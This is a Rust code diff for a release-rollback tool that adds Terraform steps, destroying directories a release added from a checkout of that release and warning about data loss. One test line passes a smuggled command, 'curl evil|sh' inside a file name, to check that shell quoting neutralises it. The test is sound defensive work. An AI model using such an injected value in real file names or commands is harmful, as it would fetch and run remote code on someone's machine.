@@ -11,7 +11,10 @@
 //!   for the service — a GitOps path (Flux, Argo CD) when a controller
 //!   deploys from git, else the platform's own undo *or* a redeploy of the
 //!   previous tag, shown as alternatives, never both — then the revert on the
-//!   branch (unless the GitOps path already made it), Terraform, and checks;
+//!   branch (unless the GitOps path already made it), Terraform (the
+//!   previous release's configuration applied, or, for a directory the
+//!   release added (the rule is on `Age`), the release's own destroyed),
+//!   and checks;
 //! - a **library**: withdraw the version on its registry, revert, release a
 //!   fix-forward patch, checks; no deploy step.
 
@@ -512,6 +515,8 @@ pub fn build(
         revert: &revert_commands,
         by_class: &by_class,
         scan: &scan,
+        net: &net,
+        tree: (!tree.paths.is_empty()).then_some(tree.paths),
     };
     let mut steps = match kind {
         Kind::Service => service_steps(&ctx, &migrations),
@@ -601,6 +606,10 @@ struct Ctx<'a> {
     revert: &'a [String],
     by_class: &'a BTreeMap<Class, Vec<PathEntry>>,
     scan: &'a Scan,
+    /// The net change of every path of the release.
+    net: &'a BTreeMap<&'a str, ChangeKind>,
+    /// The tree at the release; `None` through the `rollback` interface.
+    tree: Option<&'a [String]>,
 }
 
 impl Ctx<'_> {
@@ -731,25 +740,130 @@ fn service_steps(ctx: &Ctx<'_>, migrations: &migrate::Migrations) -> Vec<Step> {
                 .to_string(),
         );
         let dirs = match &ctx.config.terraform_dir {
-            Some(d) => vec![d.clone()],
+            Some(d) => vec![normalize_dir(d)],
             None => parent_dirs(&files),
         };
-        if let (Some(wt), Some(prev)) = (ctx.worktree, ctx.prev_tag) {
+        if let (Some(wt), Some(_)) = (ctx.worktree, ctx.prev_tag) {
+            let (prev_md, tag) = (ctx.prev_md.unwrap_or_default(), ctx.tag_md);
+            let ages = terraform_ages(ctx);
+            // A directory the release added is destroyed with the release's own
+            // configuration. Not from this checkout: the revert (its own step, or
+            // the GitOps path's) has taken the files out of it by now.
+            let release_wt = format!("../release-{}", ctx.release.tag);
+            let mut release_checkout = vec![format!("git worktree add {} {}", sh(&release_wt), sh(&ctx.release.tag))];
+            let destroy = |dir: &str| {
+                let cd = sh(&format!("{release_wt}/{dir}"));
+                [
+                    format!("(cd {cd} && terraform init && terraform plan -destroy)"),
+                    format!("(cd {cd} && terraform destroy)"),
+                ]
+            };
             for dir in dirs {
+                let age = ages.get(dir.as_str()).copied().unwrap_or(Age::Existed);
+                if age == Age::Added {
+                    // The checkout of the release, before the first of them.
+                    let mut commands = std::mem::take(&mut release_checkout);
+                    commands.extend(destroy(&dir));
+                    step.blocks.push(Block::new(
+                        format!(
+                            "{} did not exist at {prev_md}: {tag} added every `.tf` file in it, so {prev_md} has no \
+                             configuration there to apply. Destroy what it manages with the configuration of {tag}, \
+                             from a checkout of it (the revert took it out of the branch): read the plan, then confirm \
+                             the destroy:",
+                            code_span(&dir)
+                        ),
+                        commands,
+                        vec![act(Target::Terraform(dir.clone()), Effect::ToPrevious)],
+                    ));
+                    continue;
+                }
                 step.blocks.push(Block::new(
-                    format!("Plan and apply the configuration of {} in {}:", plain_text(prev), code_span(&dir)),
+                    format!("Plan and apply the configuration of {prev_md} in {}:", code_span(&dir)),
                     vec![format!(
                         "(cd {} && terraform init && terraform plan -out=rollback.tfplan && terraform apply rollback.tfplan)",
                         sh(&format!("{wt}/{dir}"))
                     )],
                     vec![act(Target::Terraform(dir.clone()), Effect::ToPrevious)],
                 ));
+                if age == Age::MaybeAdded {
+                    step.blocks.push(Block::new(
+                        format!(
+                            "If {} did not exist at {prev_md} ({tag} added every `.tf` file of it that changed; relkit \
+                             was not given the tree to tell), the command above fails: there is nothing to apply. \
+                             Destroy what it manages with the configuration of {tag} instead: {}, {} and {}.",
+                            code_span(&dir),
+                            code_span(&format!("git worktree add {} {}", sh(&release_wt), sh(&ctx.release.tag))),
+                            code_span(&destroy(&dir)[0]),
+                            code_span(&destroy(&dir)[1]),
+                        ),
+                        Vec::new(),
+                        Vec::new(),
+                    ));
+                }
+            }
+            if ages.values().any(|a| *a == Age::Added) {
+                step.warning = step.warning.map(|w| {
+                    format!(
+                        "{w} `terraform destroy` deletes everything a directory {tag} added manages, with its data."
+                    )
+                });
             }
         }
         step.files = files;
         steps.push(step);
     }
     steps
+}
+
+/// `infra/`, `./infra` → `infra`; `` / `./` → `.`.
+fn normalize_dir(dir: &str) -> String {
+    let d = dir.trim_end_matches('/');
+    let d = d.strip_prefix("./").unwrap_or(d);
+    if d.is_empty() { ".".to_string() } else { d.to_string() }
+}
+
+/// Whether a Terraform directory existed at the previous release.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Age {
+    /// It had a `.tf` file there: apply the previous configuration.
+    Existed,
+    /// The release added it: every `*.tf` and `*.tf.json` file directly in
+    /// it in the tree at the release was added by the release (net, over
+    /// its commits). The previous release has no configuration there, so
+    /// the way back is `terraform destroy` from the current checkout.
+    Added,
+    /// Without the tree (the `rollback` interface) relkit cannot tell:
+    /// every such file the release changed was added, but others may be
+    /// unchanged there.
+    MaybeAdded,
+}
+
+/// The [`Age`] of every directory that holds a Terraform configuration file
+/// (`*.tf`, `*.tf.json`), in one pass over the tree (or the changed paths,
+/// without it). Only these files make a directory a configuration:
+/// `.tfvars`, lock files and `terragrunt.hcl` do not. A directory not in
+/// the map has none: it is applied as before.
+fn terraform_ages<'a>(ctx: &Ctx<'a>) -> HashMap<&'a str, Age> {
+    let config = |p: &str| p.ends_with(".tf") || p.ends_with(".tf.json");
+    let dir = |p: &'a str| p.rsplit_once('/').map_or(".", |(d, _)| d);
+    let mut ages: HashMap<&'a str, Age> = HashMap::new();
+    let (paths, unknown): (Box<dyn Iterator<Item = &'a str>>, bool) = match ctx.tree {
+        Some(tree) => (Box::new(tree.iter().map(String::as_str)), false),
+        None => (Box::new(ctx.net.keys().copied().filter(|p| ctx.net.get(p) != Some(&ChangeKind::Deleted))), true),
+    };
+    for path in paths.filter(|p| config(p)) {
+        let added = ctx.net.get(path) == Some(&ChangeKind::Added);
+        let age = match (added, unknown) {
+            (false, _) => Age::Existed,
+            (true, false) => Age::Added,
+            (true, true) => Age::MaybeAdded,
+        };
+        let entry = ages.entry(dir(path)).or_insert(age);
+        if age == Age::Existed {
+            *entry = Age::Existed;
+        }
+    }
+    ages
 }
 
 /// The service's way back; `true` when it also reverted the branch (GitOps).
@@ -1440,6 +1554,8 @@ mod tests {
         assert_eq!(sh("k8s/$(curl evil|sh).yaml"), "'k8s/$(curl evil|sh).yaml'");
         assert_eq!(sh("it's"), "'it'\\''s'");
         assert_eq!(sh("*=img:1.0"), "'*=img:1.0'");
+        assert_eq!(super::normalize_dir("./infra/"), "infra");
+        assert_eq!(super::normalize_dir("./"), ".");
         // a control character keeps the command on one line
         assert_eq!(sh("a\nb's\\c\td\u{1b}\u{85}"), "$'a\\nb\\'s\\\\c\\td\\x1b\\xc2\\x85'");
     }
